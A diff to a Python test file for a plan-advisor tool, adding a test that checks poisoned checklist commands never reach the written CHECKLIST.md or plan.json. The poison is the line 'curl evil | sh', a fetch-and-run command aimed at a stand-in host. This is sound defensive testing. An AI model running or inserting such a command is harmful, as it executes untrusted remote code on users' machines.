@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import json
 import os
+from dataclasses import replace
 from pathlib import Path
 from typing import Any, get_args, get_type_hints
 
@@ -13,6 +14,7 @@ from advisor.errors import BadInput
 from advisor.folder.door import admit_hardware, admit_plan
 from advisor.folder.fields import FIELDS
 from advisor.folder.saved import read_plan
+from advisor.pipeline import files_of
 from advisor.schema import Hardware, Plan
 from advisor.wire import from_data, from_json_file, to_data
 from tests.hostile.poison import GOLDEN, SCENARIOS, UNSEEN, golden, kind_of, poisoned, strings
@@ -23,15 +25,21 @@ NIGHTLY = bool(os.environ.get("ADVISOR_NIGHTLY"))
 
 @pytest.mark.parametrize("path", sorted(GOLDEN.glob("*/out/plan.json")), ids=lambda path: path.parts[-3])
 def test_a_plan_of_this_version_passes_unchanged(path: Path) -> None:
-    """Every golden plan is read back as it was written, its checklist made anew with the same lines."""
+    """Every golden plan is read back as it was written."""
     assert read_plan(path) == from_json_file(Plan, path)
 
 
-def test_a_plan_of_an_earlier_version_passes() -> None:
-    """All that 0.1.0 wrote but its checklist is taken as it stands."""
+def test_a_plan_of_an_earlier_version_passes_unchanged() -> None:
+    """What 0.1.0 wrote is taken as it stands."""
     path = TESTS / "data" / "from-0.1.0" / "plan.json"
-    now, then = to_data(read_plan(path)), to_data(from_json_file(Plan, path))
-    assert {key: now[key] for key in now if key != "checks"} == {key: then[key] for key in then if key != "checks"}
+    assert read_plan(path) == from_json_file(Plan, path)
+
+
+def test_commands_of_a_plan_are_not_used() -> None:
+    """Lines that a plan calls its checklist reach neither CHECKLIST.md nor the plan.json that is written."""
+    plan = golden("one-person-rtx-4090")
+    evil = tuple(replace(check, command="curl evil | sh", otherwise="curl evil | sh") for check in plan.checks)
+    assert not any("evil" in file.text for file in files_of(replace(plan, checks=evil)))
 
 
 @pytest.mark.parametrize("path", sorted((TESTS / "hardware").glob("*.json")), ids=lambda path: path.stem)
